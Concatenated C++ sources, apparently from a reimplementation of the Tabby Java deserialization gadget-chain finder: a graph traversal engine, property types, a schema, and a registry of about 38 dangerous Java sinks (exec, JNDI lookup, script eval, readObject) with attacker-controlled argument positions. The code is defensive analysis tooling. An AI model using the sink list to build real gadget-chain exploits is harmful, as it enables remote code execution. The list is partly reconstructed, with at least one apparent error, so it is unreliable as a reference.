  NodeId start() const { return nodes.front(); }
  NodeId end() const { return nodes.back(); }
  std::size_t length() const { return edges.size(); }  // Neo4j semantics: edge count

  bool contains_node(NodeId id) const {
    for (NodeId n : nodes) {
      if (n == id) return true;
    }
    return false;
  }

  Path extended(EdgeId via, NodeId to) const {
    Path next = *this;
    next.edges.push_back(via);
    next.nodes.push_back(to);
    return next;
  }
};

enum class Evaluation : std::uint8_t {
  IncludeAndContinue,
  IncludeAndPrune,
  ExcludeAndContinue,
  ExcludeAndPrune,
};

inline bool includes(Evaluation e) {
  return e == Evaluation::IncludeAndContinue || e == Evaluation::IncludeAndPrune;
}
inline bool continues(Evaluation e) {
  return e == Evaluation::IncludeAndContinue || e == Evaluation::ExcludeAndContinue;
}

/// How the engine prevents revisits. NodePath is Neo4j's NODE_PATH (no node
/// twice within one path); NodeGlobal skips any node ever visited in the
/// whole traversal — the GadgetInspector behaviour the paper criticises in
/// §IV-F ("skips nodes that have already been traversed ... may also lead to
/// the loss of potential chains").
enum class Uniqueness : std::uint8_t { None, NodePath, NodeGlobal };

/// One expansion step: follow `edge` to `next`, carrying `state`.
template <typename State>
struct Step {
  EdgeId edge = kNoEdge;
  NodeId next = kNoNode;
  State state{};
};

template <typename State>
struct TraversalResult {
  Path path;
  State state{};
};

/// Limits guarding against path explosion; `expansions` bounds total steps
/// taken (the Serianalyzer baseline exhausts this to reproduce the paper's
/// non-terminating "X" cells).
struct TraversalLimits {
  std::size_t max_results = SIZE_MAX;
  std::size_t max_expansions = SIZE_MAX;
  /// Wall-clock bound, polled every `deadline_stride` expansions (the
  /// default keeps the clock off the hot path while still stopping within
  /// microseconds of expiry). An expired deadline ends the run like an
  /// exhausted expansion budget, but is reported separately via
  /// Traverser::deadline_expired() — results found so far are kept.
  util::Deadline deadline;
  std::size_t deadline_stride = 64;
};

template <typename State>
class Traverser {
 public:
  using ExpandFn =
      std::function<std::vector<Step<State>>(const GraphDb&, const Path&, const State&)>;
  using EvalFn = std::function<Evaluation(const GraphDb&, const Path&, const State&)>;

  Traverser(const GraphDb& db, ExpandFn expand, EvalFn evaluate,
            Uniqueness uniqueness = Uniqueness::NodePath, TraversalLimits limits = {})
      : db_(db), expand_(std::move(expand)), evaluate_(std::move(evaluate)),
        uniqueness_(uniqueness), limits_(limits) {}

  /// Runs a DFS from `start` with initial per-branch `state`. Returns every
  /// included path, in DFS discovery order.
  std::vector<TraversalResult<State>> run(NodeId start, State initial) {
    std::vector<TraversalResult<State>> results;
    exhausted_budget_ = false;
    deadline_expired_ = false;
    expansions_ = 0;
    // An already-expired deadline (e.g. a cancelled run) does no work at
    // all: the start node is never evaluated, no results are produced.
    if (!limits_.deadline.unlimited() && limits_.deadline.expired()) {
      deadline_expired_ = true;
      return results;
    }

    struct Frame {
      Path path;
      State state;
    };
    std::vector<Frame> stack;
    Frame root;
    root.path.nodes.push_back(start);
    root.state = std::move(initial);
    stack.push_back(std::move(root));

    std::vector<bool> visited_global(db_.node_capacity(), false);

    while (!stack.empty()) {
      Frame frame = std::move(stack.back());
      stack.pop_back();

      if (uniqueness_ == Uniqueness::NodeGlobal) {
        NodeId end = frame.path.end();
        if (frame.path.length() > 0 && visited_global[end]) continue;
        visited_global[end] = true;
      }

      Evaluation verdict = evaluate_(db_, frame.path, frame.state);
      if (includes(verdict)) {
        results.push_back(TraversalResult<State>{frame.path, frame.state});
        if (results.size() >= limits_.max_results) return results;
      }
      if (!continues(verdict)) continue;

      if (++expansions_ > limits_.max_expansions) {
        exhausted_budget_ = true;
        return results;
      }
      if (!limits_.deadline.unlimited() && expansions_ % limits_.deadline_stride == 0 &&
          limits_.deadline.expired()) {
        deadline_expired_ = true;
        return results;
      }

      std::vector<Step<State>> steps = expand_(db_, frame.path, frame.state);
      // Push in reverse so the first step is explored first (stable DFS).
      for (auto it = steps.rbegin(); it != steps.rend(); ++it) {
        if (uniqueness_ == Uniqueness::NodePath && frame.path.contains_node(it->next)) continue;
        if (uniqueness_ == Uniqueness::NodeGlobal && visited_global[it->next]) continue;
        Frame child;
        child.path = frame.path.extended(it->edge, it->next);
        child.state = std::move(it->state);
        stack.push_back(std::move(child));
      }
    }
    return results;
  }

  /// True when the last run() stopped early on max_expansions.
  bool exhausted_budget() const { return exhausted_budget_; }

  /// True when the last run() stopped early on TraversalLimits::deadline;
  /// the results returned up to that point are valid but incomplete.
  bool deadline_expired() const { return deadline_expired_; }

  /// Expansion steps taken by the last run().
  std::size_t expansions() const { return expansions_; }

 private:
  const GraphDb& db_;
  ExpandFn expand_;
  EvalFn evaluate_;
  Uniqueness uniqueness_;
  TraversalLimits limits_;
  bool exhausted_budget_ = false;
  bool deadline_expired_ = false;
  std::size_t expansions_ = 0;
};

}  // namespace tabby::graph
