// Path-traversal framework modeled on the Neo4j Traversal API that
// tabby-path-finder plugs into: a pluggable Expander produces the next
// steps (optionally rewriting a per-branch state — Tabby threads the
// Trigger_Condition through here), and an Evaluator decides inclusion and
// pruning (Algorithm 3). The engine is an explicit-stack DFS.
//
// Resource governance (docs/ROBUSTNESS.md): the run is bounded three ways —
// expansions (TraversalLimits::max_expansions), wall clock (::deadline) and
// frontier bytes (::max_frontier_bytes). The byte bound covers the DFS
// stack, the store a pathological alias/CALL fan-out actually blows up:
// when a push would cross the cap, the engine first *spills* nothing (a
// result is handed to the caller the moment it is found, so completed paths
// never sit in the frontier) and then *prunes* the lowest-priority branches
// — shallowest first, in deterministic stack order — until the child fits.
// Pruning only drops unexplored subtrees, so results found under a byte cap
// are always a prefix-respecting subset of the unbounded run's results.
#pragma once

#include <cstdint>
#include <functional>
#include <vector>

#include "graph/graph.hpp"
#include "util/deadline.hpp"
#include "util/memory_budget.hpp"

namespace tabby::graph {

/// An alternating node/edge path. nodes.size() == edges.size() + 1.
struct Path {
  std::vector<NodeId> nodes;
  std::vector<EdgeId> edges;

  NodeId start() const { return nodes.front(); }
  NodeId end() const { return nodes.back(); }
  std::size_t length() const { return edges.size(); }  // Neo4j semantics: edge count

  bool contains_node(NodeId id) const {
    for (NodeId n : nodes) {
      if (n == id) return true;
    }
    return false;
  }

  Path extended(EdgeId via, NodeId to) const {
    Path next = *this;
    next.edges.push_back(via);
    next.nodes.push_back(to);
    return next;
  }

  /// Heap bytes held by this path's two vectors (the per-frame cost the
  /// frontier byte budget accounts).
  std::size_t heap_bytes() const {
    return nodes.capacity() * sizeof(NodeId) + edges.capacity() * sizeof(EdgeId);
  }
};

enum class Evaluation : std::uint8_t {
  IncludeAndContinue,
  IncludeAndPrune,
  ExcludeAndContinue,
  ExcludeAndPrune,
};

inline bool includes(Evaluation e) {
  return e == Evaluation::IncludeAndContinue || e == Evaluation::IncludeAndPrune;
}
inline bool continues(Evaluation e) {
  return e == Evaluation::IncludeAndContinue || e == Evaluation::ExcludeAndContinue;
}

/// How the engine prevents revisits. NodePath is Neo4j's NODE_PATH (no node
/// twice within one path); NodeGlobal skips any node ever visited in the
/// whole traversal — the GadgetInspector behaviour the paper criticises in
/// §IV-F ("skips nodes that have already been traversed ... may also lead to
/// the loss of potential chains").
enum class Uniqueness : std::uint8_t { None, NodePath, NodeGlobal };

/// One expansion step: follow `edge` to `next`, carrying `state`.
template <typename State>
struct Step {
  EdgeId edge = kNoEdge;
  NodeId next = kNoNode;
  State state{};
};

template <typename State>
struct TraversalResult {
  Path path;
  State state{};
};

/// Limits guarding against path explosion; `expansions` bounds total steps
/// taken (the Serianalyzer baseline exhausts this to reproduce the paper's
/// non-terminating "X" cells).
struct TraversalLimits {
  std::size_t max_results = SIZE_MAX;
  std::size_t max_expansions = SIZE_MAX;
  /// Wall-clock bound, polled every `deadline_stride` expansions (the
  /// default keeps the clock off the hot path while still stopping within
  /// microseconds of expiry). An expired deadline ends the run like an
  /// exhausted expansion budget, but is reported separately via
  /// Traverser::deadline_expired() — results found so far are kept.
  util::Deadline deadline;
  std::size_t deadline_stride = 64;
  /// Byte cap on the DFS frontier (stack frames: path vectors + per-branch
  /// state). SIZE_MAX = ungoverned. Crossing the cap prunes shallowest
  /// branches first; see Traverser::frontier_pruned(). The cap must be a
  /// value derived deterministically (per-shard slice), never a live shared
  /// counter, so runs are bit-identical at any worker count.
  std::size_t max_frontier_bytes = SIZE_MAX;
  /// Optional process-level ledger mirroring the frontier bytes (telemetry
  /// and stage-boundary checkpoints; never consulted for prune decisions).
  /// Borrowed; may be null.
  util::MemoryBudget* memory = nullptr;
};

/// The engine is generic over the graph representation: `DB` is GraphDb
/// (the mutable build-time store, the default) or FrozenGraph (the immutable
/// CSR snapshot). Only node_capacity() is required of DB directly; expansion
/// and evaluation see the same `const DB&` they were constructed with, so
/// the traversal order — and therefore every result — is representation-
/// independent as long as the callbacks enumerate steps in the same order.
template <typename State, typename DB = GraphDb>
class Traverser {
 public:
  using ExpandFn = std::function<std::vector<Step<State>>(const DB&, const Path&, const State&)>;
  using EvalFn = std::function<Evaluation(const DB&, const Path&, const State&)>;
  /// Streaming result sink: invoked in DFS discovery order, exactly when
  /// the accumulating run() would have appended. Taking the result by value
  /// lets the caller keep it in a compact form and lets the engine release
  /// the path bytes immediately (the "spill" half of the byte governance).
  using ResultFn = std::function<void(TraversalResult<State>)>;
  /// Heap bytes of one per-branch state, for the frontier byte accounting.
  /// Defaults to zero extra (sizeof(State) is already in the frame cost).
  using StateBytesFn = std::function<std::size_t(const State&)>;

  Traverser(const DB& db, ExpandFn expand, EvalFn evaluate,
            Uniqueness uniqueness = Uniqueness::NodePath, TraversalLimits limits = {},
            StateBytesFn state_bytes = {})
      : db_(db), expand_(std::move(expand)), evaluate_(std::move(evaluate)),
        uniqueness_(uniqueness), limits_(limits), state_bytes_(std::move(state_bytes)) {}

  /// Runs a DFS from `start` with initial per-branch `state`. Returns every
  /// included path, in DFS discovery order.
  std::vector<TraversalResult<State>> run(NodeId start, State initial) {
    std::vector<TraversalResult<State>> results;
    run(start, std::move(initial),
        [&results](TraversalResult<State> r) { results.push_back(std::move(r)); });
    return results;
  }

  /// Streaming variant: results are handed to `emit` as they are found and
  /// never accumulate inside the engine. This is the only run path — the
  /// vector overload above is a thin adapter — so governed and ungoverned
  /// searches execute the identical traversal.
  void run(NodeId start, State initial, const ResultFn& emit) {
    exhausted_budget_ = false;
    deadline_expired_ = false;
    expansions_ = 0;
    results_ = 0;
    frontier_pruned_ = 0;
    frontier_bytes_ = 0;
    peak_frontier_bytes_ = 0;
    bytes_charged_ = 0;
    // An already-expired deadline (e.g. a cancelled run) does no work at
    // all: the start node is never evaluated, no results are produced.
    if (!limits_.deadline.unlimited() && limits_.deadline.expired()) {
      deadline_expired_ = true;
      return;
    }

    struct Frame {
      Path path;
      State state;
    };
    auto frame_cost = [this](const Frame& f) {
      std::size_t cost = sizeof(Frame) + f.path.heap_bytes();
      if (state_bytes_) cost += state_bytes_(f.state);
      return cost;
    };
    std::vector<Frame> stack;
    // Releases whatever is still charged on every exit path (early returns
    // on budgets/deadlines leave a live frontier behind).
    struct ChargeGuard {
      Traverser* self;
      ~ChargeGuard() {
        util::maybe_release(self->limits_.memory, self->frontier_bytes_);
        self->frontier_bytes_ = 0;
      }
    } guard{this};

    Frame root;
    root.path.nodes.push_back(start);
    root.state = std::move(initial);
    charge(frame_cost(root));
    stack.push_back(std::move(root));

    std::vector<bool> visited_global(db_.node_capacity(), false);

    while (!stack.empty()) {
      Frame frame = std::move(stack.back());
      stack.pop_back();
      release(frame_cost(frame));

      if (uniqueness_ == Uniqueness::NodeGlobal) {
        NodeId end = frame.path.end();
        if (frame.path.length() > 0 && visited_global[end]) continue;
        visited_global[end] = true;
      }

      Evaluation verdict = evaluate_(db_, frame.path, frame.state);
      if (includes(verdict)) {
        bool done = ++results_ >= limits_.max_results;
        if (done || !continues(verdict)) {
          // Last use of the frame: move it into the emit (the "spill" — the
          // path's bytes leave the engine the instant the result exists).
          emit(TraversalResult<State>{std::move(frame.path), std::move(frame.state)});
          if (done) return;
          continue;
        }
        // Include-and-continue: expansion below still needs the frame, so
        // the emit gets a copy.
        emit(TraversalResult<State>{frame.path, frame.state});
      }
      if (!continues(verdict)) continue;

      if (++expansions_ > limits_.max_expansions) {
        exhausted_budget_ = true;
        return;
      }
      if (!limits_.deadline.unlimited() && expansions_ % limits_.deadline_stride == 0 &&
          limits_.deadline.expired()) {
        deadline_expired_ = true;
        return;
      }

      std::vector<Step<State>> steps = expand_(db_, frame.path, frame.state);
      // Push in reverse so the first step is explored first (stable DFS).
      for (auto it = steps.rbegin(); it != steps.rend(); ++it) {
        if (uniqueness_ == Uniqueness::NodePath && frame.path.contains_node(it->next)) continue;
        if (uniqueness_ == Uniqueness::NodeGlobal && visited_global[it->next]) continue;
        Frame child;
        child.path = frame.path.extended(it->edge, it->next);
        child.state = std::move(it->state);
        std::size_t cost = frame_cost(child);
        if (frontier_bytes_ + cost > limits_.max_frontier_bytes) {
          // Over the byte cap: prune shallowest-first. The stack front holds
          // the shallowest unexplored branches (earliest siblings), i.e. the
          // biggest unexplored subtrees — dropping them caps growth while the
          // current (deepest) branch keeps making progress. Deterministic:
          // stack order is a pure function of the traversal so far.
          std::size_t drop = 0, freed = 0;
          while (drop < stack.size() && frontier_bytes_ - freed + cost > limits_.max_frontier_bytes) {
            freed += frame_cost(stack[drop++]);
          }
          if (drop > 0) {
            stack.erase(stack.begin(), stack.begin() + static_cast<std::ptrdiff_t>(drop));
            release(freed);
            frontier_pruned_ += drop;
          }
          if (frontier_bytes_ + cost > limits_.max_frontier_bytes) {
            // Even an empty frontier cannot absorb this child: drop it too.
            ++frontier_pruned_;
            continue;
          }
        }
        charge(cost);
        stack.push_back(std::move(child));
      }
    }
  }

  /// True when the last run() stopped early on max_expansions.
  bool exhausted_budget() const { return exhausted_budget_; }

  /// True when the last run() stopped early on TraversalLimits::deadline;
  /// the results returned up to that point are valid but incomplete.
  bool deadline_expired() const { return deadline_expired_; }

  /// Expansion steps taken by the last run().
  std::size_t expansions() const { return expansions_; }

  /// Frontier branches dropped by the last run() to stay under
  /// max_frontier_bytes; > 0 means the result set may be incomplete
  /// (memory pressure).
  std::size_t frontier_pruned() const { return frontier_pruned_; }

  /// High-water mark of governed frontier bytes in the last run().
  std::size_t peak_frontier_bytes() const { return peak_frontier_bytes_; }

  /// Cumulative bytes charged to the frontier over the last run() (a
  /// monotone total: every push adds, pops never subtract from it).
  std::size_t frontier_bytes_charged() const { return bytes_charged_; }

 private:
  void charge(std::size_t bytes) {
    frontier_bytes_ += bytes;
    bytes_charged_ += bytes;
    if (frontier_bytes_ > peak_frontier_bytes_) peak_frontier_bytes_ = frontier_bytes_;
    util::maybe_charge(limits_.memory, bytes);
  }
  void release(std::size_t bytes) {
    frontier_bytes_ -= bytes;
    util::maybe_release(limits_.memory, bytes);
  }

  const DB& db_;
  ExpandFn expand_;
  EvalFn evaluate_;
  Uniqueness uniqueness_;
  TraversalLimits limits_;
  StateBytesFn state_bytes_;
  bool exhausted_budget_ = false;
  bool deadline_expired_ = false;
  std::size_t expansions_ = 0;
  std::size_t results_ = 0;
  std::size_t frontier_pruned_ = 0;
  std::size_t frontier_bytes_ = 0;
  std::size_t peak_frontier_bytes_ = 0;
  std::size_t bytes_charged_ = 0;
};

}  // namespace tabby::graph
