#include "graph/value.hpp"

#include "util/strings.hpp"

namespace tabby::graph {

std::string to_string(const Value& v) {
  struct Visitor {
    std::string operator()(std::monostate) { return "null"; }
    std::string operator()(bool b) { return b ? "true" : "false"; }
    std::string operator()(std::int64_t i) { return std::to_string(i); }
    std::string operator()(double d) { return util::format_double(d, 6); }
    std::string operator()(const std::string& s) { return "\"" + s + "\""; }
    std::string operator()(const std::vector<std::int64_t>& xs) {
      std::string out = "[";
      for (std::size_t i = 0; i < xs.size(); ++i) {
        if (i != 0) out += ",";
        out += std::to_string(xs[i]);
      }
      return out + "]";
    }
    std::string operator()(const std::vector<std::string>& xs) {
      std::string out = "[";
      for (std::size_t i = 0; i < xs.size(); ++i) {
        if (i != 0) out += ",";
        out += "\"" + xs[i] + "\"";
      }
      return out + "]";
    }
  };
  return std::visit(Visitor{}, v);
}

bool value_equals(const Value& a, const Value& b) {
  if (a.index() == b.index()) return a == b;
  // bool vs int numeric comparison
  const bool* ab = std::get_if<bool>(&a);
  const bool* bb = std::get_if<bool>(&b);
  const std::int64_t* ai = std::get_if<std::int64_t>(&a);
  const std::int64_t* bi = std::get_if<std::int64_t>(&b);
  if (ab != nullptr && bi != nullptr) return static_cast<std::int64_t>(*ab) == *bi;
  if (ai != nullptr && bb != nullptr) return *ai == static_cast<std::int64_t>(*bb);
  return false;
}

std::string index_key(const Value& v) {
  struct Visitor {
    std::string operator()(std::monostate) { return "n:"; }
    std::string operator()(bool b) { return b ? "i:1" : "i:0"; }
    std::string operator()(std::int64_t i) { return "i:" + std::to_string(i); }
    std::string operator()(double d) { return "d:" + util::format_double(d, 9); }
    std::string operator()(const std::string& s) { return "s:" + s; }
    std::string operator()(const std::vector<std::int64_t>&) { return ""; }
    std::string operator()(const std::vector<std::string>&) { return ""; }
  };
  return std::visit(Visitor{}, v);
}

}  // namespace tabby::graph
