// Property values for the embedded graph store. Mirrors the Neo4j property
// model far enough for Tabby's schema: scalars plus homogeneous lists (the
// Polluted_Position array lives on CALL edges as an int list).
#pragma once

#include <algorithm>
#include <cstdint>
#include <initializer_list>
#include <string>
#include <string_view>
#include <variant>
#include <vector>

namespace tabby::graph {

using Value = std::variant<std::monostate, bool, std::int64_t, double, std::string,
                           std::vector<std::int64_t>, std::vector<std::string>>;

/// Ordered key -> Value map backed by a sorted flat vector. Covers the
/// std::map subset the graph layer uses while making one allocation per map
/// instead of one per entry: property maps are small (a dozen keys at most)
/// but exist on every node and edge, so allocation count — not lookup
/// complexity — dominates bulk loads like graph::deserialize. Iteration
/// stays in key order, keeping dumps and the serialized form byte-for-byte
/// deterministic exactly like the std::map it replaced.
class PropertyMap {
 public:
  using value_type = std::pair<std::string, Value>;
  using iterator = std::vector<value_type>::iterator;
  using const_iterator = std::vector<value_type>::const_iterator;

  PropertyMap() = default;
  PropertyMap(std::initializer_list<value_type> init) : items_(init) {
    std::stable_sort(items_.begin(), items_.end(),
                     [](const value_type& a, const value_type& b) { return a.first < b.first; });
    // First occurrence wins on duplicate keys, as with std::map insertion.
    items_.erase(
        std::unique(items_.begin(), items_.end(),
                    [](const value_type& a, const value_type& b) { return a.first == b.first; }),
        items_.end());
  }

  iterator begin() { return items_.begin(); }
  iterator end() { return items_.end(); }
  const_iterator begin() const { return items_.begin(); }
  const_iterator end() const { return items_.end(); }
  std::size_t size() const { return items_.size(); }
  bool empty() const { return items_.empty(); }
  void reserve(std::size_t n) { items_.reserve(n); }

  iterator find(std::string_view key) {
    auto it = lower_bound(key);
    return it != items_.end() && it->first == key ? it : items_.end();
  }
  const_iterator find(std::string_view key) const {
    auto it = lower_bound(key);
    return it != items_.end() && it->first == key ? it : items_.end();
  }

  Value& operator[](const std::string& key) {
    auto it = lower_bound(key);
    if (it == items_.end() || it->first != key) it = items_.insert(it, {key, Value{}});
    return it->second;
  }

  /// Append-fast insert for keys arriving in ascending order (the serialized
  /// form); out-of-order or duplicate keys degrade to a sorted insert that
  /// keeps the existing entry, matching std::map::emplace_hint.
  iterator emplace_hint(const_iterator, std::string key, Value value) {
    if (items_.empty() || items_.back().first < key) {
      items_.emplace_back(std::move(key), std::move(value));
      return items_.end() - 1;
    }
    auto it = lower_bound(key);
    if (it != items_.end() && it->first == key) return it;
    return items_.insert(it, {std::move(key), std::move(value)});
  }

  bool operator==(const PropertyMap&) const = default;

 private:
  iterator lower_bound(std::string_view key) {
    return std::lower_bound(
        items_.begin(), items_.end(), key,
        [](const value_type& a, std::string_view k) { return std::string_view(a.first) < k; });
  }
  const_iterator lower_bound(std::string_view key) const {
    return std::lower_bound(
        items_.begin(), items_.end(), key,
        [](const value_type& a, std::string_view k) { return std::string_view(a.first) < k; });
  }

  std::vector<value_type> items_;
};

inline bool is_null(const Value& v) { return std::holds_alternative<std::monostate>(v); }

std::string to_string(const Value& v);

/// Loose scalar equality used by index lookups and Cypher `=`: exact variant
/// match except bool/int which compare numerically.
bool value_equals(const Value& a, const Value& b);

/// Stable text key for indexing; lists are not indexable and yield "".
std::string index_key(const Value& v);

}  // namespace tabby::graph
