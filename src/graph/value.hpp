// Property values for the embedded graph store. Mirrors the Neo4j property
// model far enough for Tabby's schema: scalars plus homogeneous lists (the
// Polluted_Position array lives on CALL edges as an int list).
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <variant>
#include <vector>

namespace tabby::graph {

using Value = std::variant<std::monostate, bool, std::int64_t, double, std::string,
                           std::vector<std::int64_t>, std::vector<std::string>>;

/// Ordered map so graph dumps and serialized form are deterministic.
using PropertyMap = std::map<std::string, Value>;

inline bool is_null(const Value& v) { return std::holds_alternative<std::monostate>(v); }

std::string to_string(const Value& v);

/// Loose scalar equality used by index lookups and Cypher `=`: exact variant
/// match except bool/int which compare numerically.
bool value_equals(const Value& a, const Value& b);

/// Stable text key for indexing; lists are not indexable and yield "".
std::string index_key(const Value& v);

}  // namespace tabby::graph
