#include "cpg/sinks.hpp"

namespace tabby::cpg {

namespace {
std::string key_of(std::string_view owner, std::string_view name) {
  return std::string(owner) + "#" + std::string(name);
}
}  // namespace

SinkRegistry SinkRegistry::defaults() {
  SinkRegistry r;
  // --- Table VII rows ---------------------------------------------------
  r.add({"java.nio.file.Files", "newOutputStream", "FILE", {1}});
  r.add({"java.io.File", "delete", "FILE", {0}});
  r.add({"java.lang.reflect.Method", "invoke", "CODE", {0, 1}});
  r.add({"java.net.ClassLoader", "loadClass", "CODE", {0, 1}});
  r.add({"javax.naming.Context", "lookup", "JNDI", {1}});
  r.add({"java.rmi.registry.Registry", "lookup", "JNDI", {1}});
  r.add({"java.lang.Runtime", "exec", "EXEC", {1}});
  r.add({"java.lang.ProcessImpl", "start", "EXEC", {1}});
  r.add({"javax.xml.parsers.DocumentBuilder", "parse", "XXE", {1}});
  r.add({"javax.xml.transform.Transformer", "transform", "XXE", {1}});
  r.add({"java.net.InetAddress", "getByName", "SSRF", {1}});
  r.add({"java.net.URL", "openConnection", "SSRF", {0}});
  r.add({"java.lang.Object", "readObject", "JDV", {0}});
  // --- Remainder of the 38 (website list reconstructed by category) ------
  r.add({"java.lang.ProcessBuilder", "start", "EXEC", {0}});
  r.add({"java.lang.ClassLoader", "loadClass", "CODE", {0, 1}});
  r.add({"java.lang.ClassLoader", "defineClass", "CODE", {1}});
  r.add({"java.lang.Class", "forName", "CODE", {1}});
  r.add({"java.lang.reflect.Constructor", "newInstance", "CODE", {0}});
  r.add({"javax.script.ScriptEngine", "eval", "CODE", {1}});
  r.add({"javax.el.ELProcessor", "eval", "CODE", {1}});
  r.add({"ognl.Ognl", "getValue", "CODE", {1}});
  r.add({"groovy.lang.GroovyShell", "evaluate", "CODE", {1}});
  r.add({"bsh.Interpreter", "eval", "CODE", {1}});
  r.add({"org.mozilla.javascript.Context", "evaluateString", "CODE", {2}});
  r.add({"java.beans.Expression", "getValue", "CODE", {0}});
  r.add({"javax.naming.InitialContext", "doLookup", "JNDI", {1}});
  r.add({"javax.management.remote.JMXConnectorFactory", "connect", "JNDI", {1}});
  r.add({"java.rmi.Naming", "lookup", "JNDI", {1}});
  r.add({"java.io.FileOutputStream", "write", "FILE", {0}});
  r.add({"java.io.FileWriter", "write", "FILE", {0}});
  r.add({"java.nio.file.Files", "delete", "FILE", {1}});
  r.add({"java.nio.file.Files", "write", "FILE", {1}});
  r.add({"javax.xml.parsers.SAXParser", "parse", "XXE", {1}});
  r.add({"java.net.Socket", "connect", "SSRF", {1}});
  r.add({"java.net.URLConnection", "connect", "SSRF", {0}});
  r.add({"java.io.ObjectInputStream", "readObject", "JDV", {0}});
  r.add({"javax.sql.DataSource", "getConnection", "SQL", {0}});
  r.add({"java.sql.DriverManager", "getConnection", "SQL", {1}});
  return r;
}

void SinkRegistry::add(SinkSpec spec) {
  by_key_[key_of(spec.owner, spec.name)] = sinks_.size();
  sinks_.push_back(std::move(spec));
}

const SinkSpec* SinkRegistry::match(std::string_view owner, std::string_view name) const {
  auto it = by_key_.find(key_of(owner, name));
  if (it == by_key_.end()) return nullptr;
  return &sinks_[it->second];
}

SourceRegistry SourceRegistry::defaults() {
  SourceRegistry r;
  r.add("readObject");
  r.add("readExternal");
  r.add("readResolve");
  r.add("validateObject");
  r.add("readObjectNoData");
  r.add("finalize");
  return r;
}

void SourceRegistry::add(std::string method_name) { names_.push_back(std::move(method_name)); }

bool SourceRegistry::is_source_name(std::string_view method_name) const {
  for (const std::string& n : names_) {
    if (n == method_name) return true;
  }
  return false;
}

}  // namespace tabby::cpg
