// Sink and source registries. The paper summarises 38 sink methods, each
// tagged with a Trigger_Condition (Table VII / Table VI): the positions
// (0 = receiver, i = parameter i) an attacker must control for the call to
// have its attack effect. Sources are the deserialization entry points a
// gadget chain must start from (§I: "readObject, readExternal ... usually
// overridden by developers of dependency libraries").
#pragma once

#include <optional>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

namespace tabby::cpg {

struct SinkSpec {
  std::string owner;            // declaring class
  std::string name;             // method name (any arity)
  std::string type;             // category: EXEC, CODE, JNDI, FILE, XXE, SSRF, JDV, SQL
  std::vector<int> trigger;     // Trigger_Condition positions
};

class SinkRegistry {
 public:
  /// The paper's 38 sink methods (Table VII plus the published full list's
  /// categories reconstructed from the text: lookup/getConnection/invoke are
  /// named in §IV-D3).
  static SinkRegistry defaults();

  void add(SinkSpec spec);

  /// Match by declaring class + method name (arity-insensitive, as the
  /// paper's table lists no arities).
  const SinkSpec* match(std::string_view owner, std::string_view name) const;

  const std::vector<SinkSpec>& all() const { return sinks_; }
  std::size_t size() const { return sinks_.size(); }

 private:
  std::vector<SinkSpec> sinks_;
  std::unordered_map<std::string, std::size_t> by_key_;
};

class SourceRegistry {
 public:
  /// readObject/readExternal/readResolve/validateObject/finalize overrides.
  static SourceRegistry defaults();

  void add(std::string method_name);

  /// True if a method with this name, declared with a body in a serializable
  /// class, is a deserialization source.
  bool is_source_name(std::string_view method_name) const;

  const std::vector<std::string>& names() const { return names_; }

 private:
  std::vector<std::string> names_;
};

}  // namespace tabby::cpg
