// The CPG schema: node labels, relationship types (Table II) and property
// keys. Kept in one header so every producer (builder) and consumer (finder,
// Cypher queries, baselines) agrees on names — these are the strings a user
// would also type into the query language.
#pragma once

#include <string>
#include <string_view>

namespace tabby::cpg {

// Node labels.
inline constexpr std::string_view kClassLabel = "Class";
inline constexpr std::string_view kMethodLabel = "Method";

// Relationship types (Table II).
inline constexpr std::string_view kExtendEdge = "EXTEND";
inline constexpr std::string_view kInterfaceEdge = "INTERFACE";
inline constexpr std::string_view kHasEdge = "HAS";
inline constexpr std::string_view kCallEdge = "CALL";
inline constexpr std::string_view kAliasEdge = "ALIAS";

// Shared properties.
inline constexpr std::string_view kPropName = "NAME";
inline constexpr std::string_view kPropPhantom = "IS_PHANTOM";

// Class node properties.
inline constexpr std::string_view kPropInterface = "IS_INTERFACE";
inline constexpr std::string_view kPropSerializable = "IS_SERIALIZABLE";
inline constexpr std::string_view kPropAbstractClass = "IS_ABSTRACT";
inline constexpr std::string_view kPropSuper = "SUPER";
inline constexpr std::string_view kPropJar = "JAR";

// Method node properties.
inline constexpr std::string_view kPropClassName = "CLASSNAME";
inline constexpr std::string_view kPropSignature = "SIGNATURE";
inline constexpr std::string_view kPropStatic = "IS_STATIC";
inline constexpr std::string_view kPropAbstract = "IS_ABSTRACT";
inline constexpr std::string_view kPropParamCount = "PARAM_COUNT";
inline constexpr std::string_view kPropIsSource = "IS_SOURCE";
inline constexpr std::string_view kPropIsSink = "IS_SINK";
inline constexpr std::string_view kPropSinkType = "SINK_TYPE";
inline constexpr std::string_view kPropTriggerCondition = "TRIGGER_CONDITION";
inline constexpr std::string_view kPropAction = "ACTION";

// CALL edge properties.
inline constexpr std::string_view kPropPollutedPosition = "POLLUTED_POSITION";
inline constexpr std::string_view kPropStmtIndex = "STMT_INDEX";
inline constexpr std::string_view kPropInvokeKind = "INVOKE_KIND";

/// "owner#name/nargs" — the unique method key used by SIGNATURE lookups.
inline std::string method_signature(std::string_view owner, std::string_view name, int nargs) {
  return std::string(owner) + "#" + std::string(name) + "/" + std::to_string(nargs);
}

}  // namespace tabby::cpg
