#include "cpg/export.hpp"

#include <fstream>

#include "cpg/schema.hpp"

namespace tabby::cpg {

namespace {

/// RFC-4180-ish escaping: quote when the cell contains comma/quote/newline.
std::string csv_escape(const std::string& cell) {
  bool needs_quotes = cell.find_first_of(",\"\n") != std::string::npos;
  if (!needs_quotes) return cell;
  std::string out = "\"";
  for (char c : cell) {
    if (c == '"') out += "\"\"";
    else out.push_back(c);
  }
  out += "\"";
  return out;
}

std::string prop_cell(const graph::Node& node, std::string_view key) {
  const graph::Value* v = node.prop(std::string(key));
  if (v == nullptr || graph::is_null(*v)) return "";
  if (const auto* s = std::get_if<std::string>(v)) return csv_escape(*s);
  return csv_escape(graph::to_string(*v));
}

}  // namespace

util::Result<CsvExportStats> export_csv(const graph::GraphDb& db,
                                        const std::filesystem::path& dir) {
  std::error_code ec;
  std::filesystem::create_directories(dir, ec);

  std::ofstream classes(dir / "CLASSES.csv");
  std::ofstream methods(dir / "METHODS.csv");
  std::ofstream rels(dir / "RELATIONSHIPS.csv");
  if (!classes || !methods || !rels) {
    return util::Error{"cannot open CSV files in " + dir.string()};
  }

  classes << "id:ID,:LABEL,NAME,IS_INTERFACE,IS_SERIALIZABLE,IS_ABSTRACT,IS_PHANTOM,SUPER,JAR\n";
  methods << "id:ID,:LABEL,NAME,CLASSNAME,SIGNATURE,PARAM_COUNT,IS_STATIC,IS_ABSTRACT,"
